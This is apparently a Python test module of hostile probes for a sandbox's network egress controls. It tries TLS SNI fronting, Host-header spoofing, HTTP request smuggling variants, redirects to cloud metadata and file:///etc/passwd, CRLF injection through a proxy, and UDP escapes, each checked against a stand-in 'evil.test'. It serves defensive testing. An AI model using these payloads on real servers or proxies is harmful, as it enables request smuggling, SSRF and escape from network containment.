"""Probes for what is said on a permitted connection: names in TLS, hosts and framing of requests, redirects."""

from __future__ import annotations

from corral.testing.hostile.window.tools import heard_nothing, probe

_SNI = "the name in TLS must be permitted as well"
_HOST = "the host of each request must be permitted, and its framing exact"

FRONTING = probe("connect-to-one-name-and-say-another-in-tls", _SNI, r"""
works()
evil = hello("evil.test")
for name in ("evil.test", "good.test.evil.test", "evil.test.", "wild.test", "EVIL.TEST"):
    data = hello(name)
    for send in (
        lambda *pieces: connect("good.test:443", *pieces),
        lambda *pieces: socks("good.test", 443, *pieces),
        lambda *pieces: talk(("good.test", 443), *pieces),
        lambda *pieces: connect("x.wild.test:443", *pieces),
    ):
        send(data)
split = [evil[:5], *(evil[n : n + 7] for n in range(5, len(evil), 7))]
connect("good.test:443", *split, pause=0.001, seconds=1)
records = b"".join(evil[:3] + struct.pack("!H", len(part)) + part
                   for part in (evil[n : n + 31] for n in range(5, len(evil), 31)))
connect("good.test:443", records)
talk(("good.test", 443), records)
connect("good.test:443", evil[:1], evil[1:], pause=0.05)
twice = hello("good.test")
both = twice.replace(b"good.test", b"evil.test")
connect("good.test:443", both)
connect("good.test:8080", evil)
connect("good.test:7000", evil)
for begin in (b"\x15\3\1\0\2\1\x5a", b"\x15\2\1\0\2\1\0", b"\x14\3\3\0\1\1", b"\x17\3\3\0\1\0", b"\x16\3\3\0\0"):
    for pieces in ((begin + evil,), (begin, evil), (begin[:3], begin[3:] + evil)):  # some skip such records
        talk(("good.test", 443), *pieces, pause=0.02, seconds=0.2)
for version in (b"\2\1", b"\0\0", b"\4\0", b"\x0f\xff"):  # that of a first record is not looked at by some
    talk(("good.test", 443), evil[:1] + version + evil[3:], seconds=0.2)
    talk(("good.test", 443), evil[:1], version, evil[3:], pause=0.02, seconds=0.2)
good = hello("good.test")
talk(("good.test", 443), good + evil)
connect("good.test:443", good, evil, pause=0.05)
for name in (b" evil.test", b"evil.test ", b"good.test\0evil.test", b"evil.test\0.wild.test", b"\0\x0a good.test"):
    twin = hello("x" * (len(name) - 5) + ".test").replace(b"x" * (len(name) - 5) + b".test", name)
    talk(("good.test", 443), twin, seconds=0.2)
held("said; the servers show what they were told")
""", after=heard_nothing(b"evil.test", b"EVIL.TEST", b"\0\x09wild.test", b"\0\x0a good.test"), timeout=60)  # fmt: skip

OTHER_HOST = probe("name-another-host-in-a-request", _HOST, r"""
works()
heads = [
    b"GET /a HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET /a HTTP/1.0\r\nHost: evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: evil.test\r\nHost: good.test\r\n\r\n",
    b"GET http://evil.test/a HTTP/1.1\r\nHost: good.test\r\n\r\n",
    b"GET http://good.test@evil.test/a HTTP/1.1\r\nHost: good.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test\r\n evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost : evil.test\r\nHost: good.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nX: y\nHost: evil.test\r\nHost: good.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nX: y\rHost: evil.test\r\nHost: good.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\n Host: evil.test\r\nHost: good.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test\0evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test, evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test@evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test:80@evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test/evil.test\r\n\r\n",
    b"GET /a HTTP/1.1\nHost: evil.test\n\n",
    b"\r\n\r\nGET /a HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET /evil.test\r\n",
    b"GET  /a  HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil.test",
    b"GET /a HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
    b"GET /a HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    b"Upgrade: websocket ,\tH2C\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
    GET % b"first" + b"GET /a HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: good.test\r\n\r\nGET /a HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET /ok HTTP/1.1\r\nHost: good.test\r\n\r\nCONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
]
for head in heads:
    for where in ("good.test", "x.wild.test"):
        talk((where, 80), head, seconds=0.2)
    if len(head) < 60:
        talk(("good.test", 80), *(head[n : n + 1] for n in range(len(head))), seconds=0.2)
    connect("good.test:80", head, seconds=0.2)
    connect("good.test:8080", head, seconds=0.2)
    socks("good.test", 80, head, seconds=0.2)
    talk(PROXY, head.replace(b" /", b" http://good.test/", 1), seconds=0.2)
for begin in (b"GET /\xc3\xa9", b"GET /\1", b"GET /\0", b"\x85GET /\xff", b"POST /\x7f", b"Get\x1c/\x80"):
    # What may stand in an address is for the server to say.
    connect("good.test:8080", begin, b" HTTP/1.1\r\nHost: evil.test\r\n\r\n", pause=0.05, seconds=0.2)
held("said; the servers show what they were told")
""", after=heard_nothing(b"evil.test", b"h2c", b"H2C", b"PRI * "), timeout=90)  # fmt: skip

SMUGGLING = probe("smuggle-a-request-behind-another", _HOST, r"""
works()
inner = b"GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"
size = b"%d" % len(inner)
chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
post = b"POST /p HTTP/1.1\r\nHost: good.test\r\n"
cases = [
    post + b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n\r\n" + inner,
    post + b"Content-Length: " + size + b"\r\nContent-Length: 0\r\n\r\n" + inner,
    post + b"Content-Length: 0, " + size + b"\r\n\r\n" + inner,
    post + b"Content-Length: +" + size + b"\r\n\r\n" + inner,
    post + b"Content-Length: 0x" + b"%x" % len(inner) + b"\r\n\r\n" + inner,
    post + b"Content-Length: -1\r\n\r\n" + inner,
    post + b"Content-Length: " + size + b" \x0b\r\n\r\n" + inner,
    post + b"Content-Length : " + size + b"\r\n\r\n" + inner,
    post + b"Content-Length: 1_0\r\n\r\n" + inner,
    post + b"Content-Length: 99999999999999999999999999\r\n\r\n" + inner,
    post + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: xchunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding : chunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding:\x0bchunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: identity, chunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: chunked, identity\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: \"chunked\"\r\n\r\n" + chunk,
    post + b"Transfer-Encoding\r\n : chunked\r\n\r\n" + chunk,
    post + b"X: y\n" + b"Transfer-Encoding: chunked\r\n\r\n" + chunk,
    post + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX\r\n\r\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n0\n\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n1 \r\nA\r\n0\r\n\r\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n2\r\nAB" + inner,
    post + b"Transfer-Encoding: chunked\r\n\r\n1;a=\"\n\"\r\nA\r\n0\r\n\r\n" + inner,
    b"POST /p HTTP/1.0\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
    post + b"Content-Length: 0\r\n\r\n" + inner,
    post + b"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n" + inner,
    b"HEAD /p HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\n\r\n" + inner,
]
for case in cases:
    talk(("good.test", 80), case)
    talk(("good.test", 80), *(case[n : n + 40] for n in range(0, len(case), 40)), pause=0.001)
    connect("good.test:8080", case)
    talk(PROXY, case.replace(b" /p", b" http://good.test/p", 1))
held("said; the servers show what they were told")
""", after=heard_nothing(b"/smuggled"), timeout=120)  # fmt: skip

REDIRECT = probe("follow-a-redirect-to-metadata", "a redirect is a new connection, and judged like one", r"""
import urllib.request
works()
followed = []
for goal in ("http://169.254.169.254/latest/meta-data/", "http://metadata.test/", "http://[fd00:ec2::254]/",
    "http://10.0.0.1/",
             f"http://127.0.0.1:{T['tcp_port']}/", f"http://{T['own_address']}/", "http://evil.test/", "http://2852039166/"):
    for proxies in ({}, {"http": "http://%s:%d" % PROXY}):
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
        try:
            with opener.open(f"http://good.test/redirect?to={goal}", timeout=2) as answer:
                followed.append((goal, answer.status))
        except OSError:
            pass
breached(f"followed: {followed}") if followed else held("no redirect led anywhere")
""", timeout=60)  # fmt: skip

INJECTION = probe("inject-lines-through-the-proxy", _HOST, r"""
works()
targets = ["good.test:80\r\nX-Injected: 1", "good.test:80 HTTP/1.1\r\nX-Injected: 1\r\n\r\nGET",
    "good.test:80\n\nX-Injected", "good.test:80\0"]
for target in targets:
    connect(target, GET % b"")
    talk(PROXY, f"GET http://{target}/ HTTP/1.1\r\nHost: good.test\r\n\r\n".encode())
talk(PROXY, b"GET http://good.test/a\r\nX-Injected: 1 HTTP/1.1\r\nHost: good.test\r\n\r\n")
talk(PROXY, b"GET http://good.test/\0X-Injected HTTP/1.1\r\nHost: good.test\r\n\r\n")
for head in (b"OPTIONS * HTTP/1.1\r\n", b"TRACE / HTTP/1.1\r\n", b"CONNECT / HTTP/1.1\r\n",
    b"GET ftp://good.test/ HTTP/1.1\r\n",
             b"GET file:///etc/passwd HTTP/1.1\r\n", b"GET gopher://good.test/_X-Injected HTTP/1.1\r\n",
             b"\x16\x03\x01", b"\4\1\0\x50\0\0\0\1x\0evil.test\0",
             b"\5\1\2", b"\5\xff" + bytes(255), b"\5\1\0\5\2\0\1" + bytes(6), b"\5\1\0\5\3\0\1" + bytes(6),
             b"PROXY TCP4 1.1.1.1 1.1.1.1 1 1\r\n"):
    answer = talk(PROXY, head + b"X-Injected: 1\r\n\r\n")
    if passed(answer):
        breached(f"{head!r}: {answer[:100]!r}")
works()
held("said; the servers show what they were told")
""", after=heard_nothing(b"X-Injected"), timeout=60)  # fmt: skip

DATAGRAMS = probe("send-datagrams-through-the-window", "UDP leads to the sandbox's own resolver, and nowhere else", r"""
works()
good = look_up("good.test")[1][0]
sent = 0
for host in (good, T["good"], T["evil"], "169.254.169.254", "8.8.8.8", "255.255.255.255", "224.0.0.251"):
    for port in (53, 123, 443, 5353):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.01)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sent += can(sock.sendto, b"canary", (host, port))
            try:
                breached(f"{host}:{port} answered {sock.recv(100)!r}")
            except OSError:
                pass
for host in ("2a00:1450::1", "fd00:ec2::254", "ff02::1"):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sent += can(sock.sendto, b"canary", (host, 443))
for command in (b"\2", b"\3"):  # BIND and UDP ASSOCIATE
    answer = talk(PROXY, b"\5\1\0", b"\5" + command + b"\0\3\x09good.test" + struct.pack("!H", 80))
    if answer is None or answer[2:3] != b"\5":
        say("unproven", f"the proxy does not answer: {answer!r}")
    if answer[2:4] == b"\5\0":
        breached("the proxy relays datagrams")
held(f"{sent} were sent inside; the world counts what arrived")
""")  # fmt: skip
